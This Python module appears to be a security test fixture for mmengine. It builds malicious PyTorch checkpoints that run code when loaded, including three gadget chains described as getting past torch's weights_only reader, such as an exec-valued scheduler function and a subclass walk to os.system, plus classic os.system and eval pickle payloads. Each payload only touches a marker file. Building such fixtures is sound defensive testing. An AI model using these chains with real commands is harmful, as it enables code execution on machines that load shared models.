"""Checkpoints that try to do something when they are read.

What they do is make a file, the marker. Those under ``CRAFTED`` got through torch's
``weights_only`` reader as mmengine calls it; those under ``ORDINARY`` did not.
"""

import os
import pickle
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from mmengine.logging import HistoryBuffer
from mmengine.optim.scheduler.param_scheduler import OneCycleParamScheduler


class Attribute:
    """Unpickles to an attribute of something."""

    def __init__(self, owner: Any, name: str) -> None:
        self.owner, self.name = owner, name

    def __reduce__(self):
        return getattr, (self.owner, self.name)


def instance(cls: type, **attributes: Any) -> Any:
    """An instance of a class with any attributes, made without its constructor."""
    made = cls.__new__(cls)
    vars(made).update(attributes)
    return made


# The module that the built-in getattr belongs to has all other built-in functions.
EXEC = Attribute(Attribute(getattr, "__self__"), "exec")


def _code(marker: Path) -> str:
    """Code without names, which could not be looked up: the scope is a tensor."""
    return (
        "[c for c in ().__class__.__base__.__subclasses__() "
        "if c.__name__ == '_wrap_close'][0].__init__.__globals__['system']"
        f"('touch {marker}')"
    )


def _schedule_that_runs(marker: Path) -> tuple[dict, dict]:
    """State of a one-cycle schedule and of a group whose next step calls exec."""
    phase = dict(end_step=10.0, start_lr="initial_lr", end_lr="max_lr")
    state = dict(
        anneal_func=EXEC,
        last_step=torch.zeros(()),
        total_steps=torch.tensor(100.0),
        _schedule_phases=[phase],
        param_name="lr",
        begin=0,
        end=10**6,
    )
    return state, dict(initial_lr=_code(marker), max_lr={})


def by_scheduler(run: dict, marker: Path) -> dict:
    """A schedule whose curve is ``exec``: it is called at the next step."""
    state, group = _schedule_that_runs(marker)
    optimizer = dict(run["optimizer"])
    optimizer["param_groups"] = [dict(g, **group) for g in optimizer["param_groups"]]
    schedulers = [dict(s, **state) for s in run["param_schedulers"]]
    return dict(run, optimizer=optimizer, param_schedulers=schedulers)


def by_state_dict(run: dict, marker: Path) -> dict:
    """Parameters that are an object whose ``items`` is a method of a schedule."""
    state, group = _schedule_that_runs(marker)
    optimizer = instance(HistoryBuffer, param_groups=[group])
    schedule = instance(OneCycleParamScheduler, optimizer=optimizer, **state)
    items = Attribute(schedule, "_get_value")
    return dict(run, state_dict=instance(HistoryBuffer, items=items))


def by_config_text(run: dict, marker: Path) -> dict:
    """The text of a config, which ``Runner.resume`` runs."""
    text = f"from pathlib import Path\nPath({str(marker)!r}).touch()\n"
    return dict(run, meta=dict(run["meta"], config=text))


CRAFTED: list[Callable[[dict, Path], dict]] = [
    by_scheduler,
    by_state_dict,
    by_config_text,
]


class _Call:
    def __init__(self, function: Callable, *args: Any) -> None:
        self.function, self.args = function, args

    def __reduce__(self):
        return self.function, self.args


def ordinary(kind: str, run: dict, marker: Path) -> Any:
    """What a checkpoint of the usual kinds of attack holds."""
    call = _Call(os.system, f"touch {marker}")
    return {
        "meta": dict(run, meta=call),
        "state": dict(run, state_dict=call),
        "whole": call,
        "tensor": dict(state_dict={"weight": call}),
        "history": dict(run, message_hub=instance(HistoryBuffer, _log_history=call)),
        "eval": dict(run, meta=_Call(eval, f"open({str(marker)!r}, 'w')")),
        "method": dict(run, meta=Attribute(HistoryBuffer, "__init__")),
    }[kind]


ORDINARY = ("meta", "state", "whole", "tensor", "history", "eval", "method")


def write(content: Any, path: Path, how: str = "zip") -> Path:
    """Write a checkpoint: of torch, new or old format, or a mere pickle."""
    if how == "pickle":
        path.write_bytes(pickle.dumps(content, protocol=2))
    else:
        torch.save(content, path, _use_new_zipfile_serialization=how == "zip")
    return path
